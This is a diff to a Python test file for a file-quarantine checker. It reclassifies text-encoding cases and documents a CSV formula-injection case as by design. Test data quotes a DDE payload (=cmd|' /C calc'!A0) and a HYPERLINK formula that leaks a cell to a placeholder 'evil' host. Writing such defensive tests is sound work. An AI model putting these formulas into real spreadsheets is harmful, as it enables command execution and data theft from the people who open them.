@@ -15,6 +15,10 @@ rejections: Python's gzip appending a member per session when a session logs not
 (`<object object at 0x...>`, the text rule's `<object`), and two the docs choose (tqdm's
 nested bars' ESC [A in a job's .err; a log holding nginx's 502 page). A report line: a
 refusal's "near byte N" names the start of the 1 MiB read, not the character.
+Fixed in session 35 (icfix): the JSON names (served.served_by; JSON_NAMED), the quiet
+sessions' empty members, the object() repr, "near byte"; the text encoding choice is
+listed in docs/quarantine.md, so its two cases are controls; the DDE cell stays a strict
+xfail by design (Threat model: a scanner's job).
 
 Controls: json/orjson/ujson/simplejson/json.tool/jq (64-bit ids too), node's
 JSON.stringify, papermill notebooks (pandas HTML, a plotly <script> in strings), pandas with tiny and huge floats (records, table, lines,
@@ -110,16 +114,9 @@ HOLES: dict[str, str] = {
     "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0; Excel evaluates a cell "
     "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
     'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
-    "treats as active content; docs/quarantine.md calls text content data, so this may be by design",
-}
-_ENCODING = (
-    "published: the same text as ctl-log-utf16.log (UTF-16LE), here {how}: Python's utf-16/utf-8 readers "
-    "return the one str, so the choice among UTF-8, UTF-16LE and UTF-16BE is log2 3 = 1.6 bits a file no "
-    "reader returns; 'JSON and text: what exactness leaves' lists line ends and white space, not this"
-)
-HOLES |= {
-    "text-utf16be-of-ctl.log": _ENCODING.format(how="UTF-16BE behind FE FF"),
-    "text-utf8-of-ctl.log": _ENCODING.format(how="UTF-8"),
+    "treats as active content; by design: docs/quarantine.md's Threat model says a cell's formula is data to "
+    "vet, the scanners' job (a YARA rule on .csv), and its 'JSON and text: what exactness leaves' that a "
+    "formula is a valid cell vmguard does not judge",
 }
 FALSE_REJECTIONS: dict[str, str] = {
     "ctl-train-nested-4243.err": "refused (invalid-format: text: ESC): tqdm's nested bars (an inner loop with "
@@ -193,10 +190,11 @@ def test_apache_serves_the_json_name_holes_as_json():
 
 
 def test_the_encoding_cases_are_one_text():
-    """What makes them a hole: a reader returns one str for all three files."""
+    """Why they were holes (before session 35, when docs/quarantine.md listed the encoding
+    as a choice no reader returns, 2 bits a file): a reader returns one str for all three."""
     text = FILES["ctl-log-utf16.log"].decode("utf-16")
-    assert FILES["text-utf16be-of-ctl.log"].decode("utf-16") == text
-    assert FILES["text-utf8-of-ctl.log"].decode("utf-8") == text
+    assert FILES["ctl-log-utf16be-of-utf16.log"].decode("utf-16") == text
+    assert FILES["ctl-log-utf8-of-utf16.log"].decode("utf-8") == text
     assert FILES["ctl-log-utf16.log"].startswith(b"\xff\xfe")
 
 
